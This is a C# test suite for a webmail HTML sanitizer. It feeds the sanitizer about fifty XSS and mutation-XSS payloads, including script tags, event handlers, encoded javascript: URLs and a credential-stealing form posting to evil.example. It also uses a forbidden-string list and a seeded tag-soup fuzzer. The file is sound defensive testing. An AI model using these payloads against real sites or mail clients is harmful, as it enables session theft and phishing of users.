using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Appliance.Web.Webmail;

namespace Appliance.Web.Tests.Webmail;

/// <summary>
/// The allow-list sanitizer against hostile HTML collected from public write-ups (OWASP's XSS Filter
/// Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, the mutation-XSS bypasses published against
/// DOMPurify and Google's sanitizers), checked structurally on the re-parsed result, plus the mail
/// formatting it must keep.
/// </summary>
public sealed class HtmlSanitizerTests
{
    public static readonly TheoryData<string> Hostile = new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=password><button>Sign in</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/t.gif)}</style>",
        "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"behavior: url(x.htc)\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</div>",
        "<div style=\"background:u\\72 l(https://evil.example/t.gif)\">x</div>",
        "<div style=\"color:red;/**/background:url(x)\">x</div>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<td background=\"https://evil.example/track.gif\">x</td>",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
        "<div ONCLICK=alert(1)>x</div>",
        "<div/onclick=alert(1)>x</div>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<isindex action=\"javascript:alert(1)\" type=image>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<a href=\"#\" style=\"display:none\">hidden</a><div style=\"display: none\">hidden</div>",
        "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
        "<img src=\"//tracker.example/pixel.gif\">",
    };

    private static readonly string[] Forbidden =
    [
        "<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "onstart", "javascript:", "vbscript:", "<iframe", "<svg",
        "<style", "expression(", "<form", "<input", "<meta", "<base", "<link", "data:text", "srcdoc", "<object", "<embed",
        "url(", "position", "behavior", "binding", "tracker.example", "evil.example", "<math", "<noscript", "<template",
        "display:none", "display: none",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_html_keeps_nothing_active(string html)
    {
        string clean = HtmlSanitizer.Sanitize(html).Html;

        // Re-parsed as the browser will: what is markup (element names, attribute names and values)
        // holds nothing active. Text may mention "<script>": it is text, escaped.
        var document = new HtmlParser().ParseDocument(clean);
        var markup = string.Join(" ", document.Body!.QuerySelectorAll("*").Select(e =>
            "<" + e.LocalName + " " + string.Join(" ", e.Attributes.Where(a => a.Name != "title" && a.Name != "alt").Select(a => $"{a.Name}={a.Value}"))));
        foreach (string bad in Forbidden)
            Assert.DoesNotContain(bad, markup, StringComparison.OrdinalIgnoreCase);
        foreach (var element in document.All)
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain("<script", clean, StringComparison.OrdinalIgnoreCase);

        // Sanitizing the result again changes nothing (no mutation on re-parsing).
        Assert.Equal(clean, HtmlSanitizer.Sanitize(clean).Html);
    }

    [Fact]
    public void Random_tag_soup_never_yields_active_content_and_sanitizing_is_idempotent()
    {
        // Seeded random mixes of the pieces attacks are made of: the run is the same every time.
        string[] tags = ["script", "img", "svg", "math", "style", "a", "p", "div", "table", "td", "noscript", "iframe", "form", "mglyph", "mtext", "textarea", "title", "xmp", "template", "select", "option", "b", "!--", "/p", "/svg", "/style", "/math"];
        string[] attributes = ["onerror=alert(1)", "src=x", "href=javascript:alert(1)", "style=\"background:url(x)\"", "title=\"</style><img src=x onerror=alert(1)>\"", "onload=alert(1)", "href=\"https://ok.example\"", "src=\"cid:a\"", "id=x", "xlink:href=javascript:alert(1)"];
        string[] texts = ["x", "<", ">", "\"", "'", "&lt;", "-->", "<![CDATA[", "]]>", "</", "=", "\u0000", "\u2028"];
        var random = new Random(2026);
        for (int round = 0; round < 500; round++)
        {
            var html = new System.Text.StringBuilder();
            for (int i = random.Next(1, 25); i > 0; i--)
            {
                switch (random.Next(3))
                {
                    case 0:
                        html.Append('<').Append(tags[random.Next(tags.Length)]);
                        for (int a = random.Next(3); a > 0; a--)
                            html.Append(' ').Append(attributes[random.Next(attributes.Length)]);
                        html.Append(random.Next(4) == 0 ? "" : ">");
                        break;
                    case 1:
                        html.Append("</").Append(tags[random.Next(tags.Length)].TrimStart('/', '!')).Append('>');
                        break;
                    default:
                        html.Append(texts[random.Next(texts.Length)]);
                        break;
                }
            }
            string clean = HtmlSanitizer.Sanitize(html.ToString()).Html;
            var document = new HtmlParser().ParseDocument(clean);
            foreach (var element in document.Body!.QuerySelectorAll("*"))
            {
                Assert.DoesNotContain(element.LocalName, new[] { "script", "svg", "math", "style", "iframe", "form", "noscript", "template", "textarea", "title", "xmp" });
                Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Value.Contains("javascript:", StringComparison.OrdinalIgnoreCase));
            }
            Assert.Equal(clean, HtmlSanitizer.Sanitize(clean).Html);
        }
    }

    [Fact]
    public void Mail_formatting_links_tables_and_inline_images_are_kept()
    {
        const string html = """
            <html><head><title>x</title></head><body>
            <p style="color: #333; font-family: Arial, 'Helvetica Neue', sans-serif; margin: 0 0 8px 0">Hello <b>Alice</b>,</p>
            <table width="600" cellpadding="4" border="0"><tr><td bgcolor="#eeeeee" align="center">Cell</td></tr></table>
            <a href="https://example.org/invoice?id=1&amp;x=2">Invoice</a> <a href="mailto:bob@example.org">Bob</a>
            <img src="cid:logo@example.org" alt="Logo" width="120">
            <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
            <font face="Verdana" color="red">old style</font>
            <blockquote cite="https://example.org/q">quoted</blockquote>
            <custom-element>custom text</custom-element>
            </body></html>
            """;
        var result = HtmlSanitizer.Sanitize(html);
        string clean = result.Html;
        Assert.False(result.BlockedRemoteContent);
        Assert.Contains("<p style=\"color: #333; font-family: Arial, 'Helvetica Neue', sans-serif; margin: 0 0 8px 0;\">Hello <b>Alice</b>,</p>", clean);
        Assert.Contains("<table width=\"600\" cellpadding=\"4\" border=\"0\">", clean);
        Assert.Contains("<td bgcolor=\"#eeeeee\" align=\"center\">Cell</td>", clean);
        Assert.Contains("<a href=\"https://example.org/invoice?id=1&amp;x=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Invoice</a>", clean);
        Assert.Contains("href=\"mailto:bob@example.org\"", clean);
        Assert.Contains("<img src=\"cid:logo@example.org\" alt=\"Logo\" width=\"120\">", clean);
        Assert.Contains("src=\"data:image/png;base64,iVBORw0KGgo=\"", clean);
        Assert.Contains("<font face=\"Verdana\" color=\"red\">old style</font>", clean);
        Assert.Contains("<blockquote>quoted</blockquote>", clean);
        Assert.Contains("custom text", clean);
        Assert.DoesNotContain("<title", clean);
        Assert.DoesNotContain("custom-element", clean);
    }

    [Fact]
    public void Remote_images_are_blocked_until_the_user_asks_and_then_only_http_ones_load()
    {
        const string html = "<p>Hi</p><img src=\"https://images.example/logo.png\" alt=\"logo\"><div style=\"background: url(https://images.example/bg.png)\">x</div>";
        var blocked = HtmlSanitizer.Sanitize(html);
        Assert.True(blocked.BlockedRemoteContent);
        Assert.DoesNotContain("images.example", blocked.Html);
        Assert.Contains("<img alt=\"logo\">", blocked.Html);

        var allowed = HtmlSanitizer.Sanitize(html, allowRemoteImages: true);
        Assert.Contains("<img src=\"https://images.example/logo.png\" alt=\"logo\">", allowed.Html);
        Assert.DoesNotContain("url(", allowed.Html); // CSS loads stay out even then
        Assert.False(HtmlSanitizer.Sanitize("<p>plain</p>").BlockedRemoteContent);
    }

    [Fact]
    public void Text_and_entities_stay_text()
    {
        string clean = HtmlSanitizer.Sanitize("<p>1 &lt; 2 &amp; &quot;quotes&quot; &lt;script&gt;</p>").Html;
        Assert.Equal("<p>1 &lt; 2 &amp; \"quotes\" &lt;script&gt;</p>", clean);
        Assert.Equal("", HtmlSanitizer.Sanitize("").Html);
    }
}
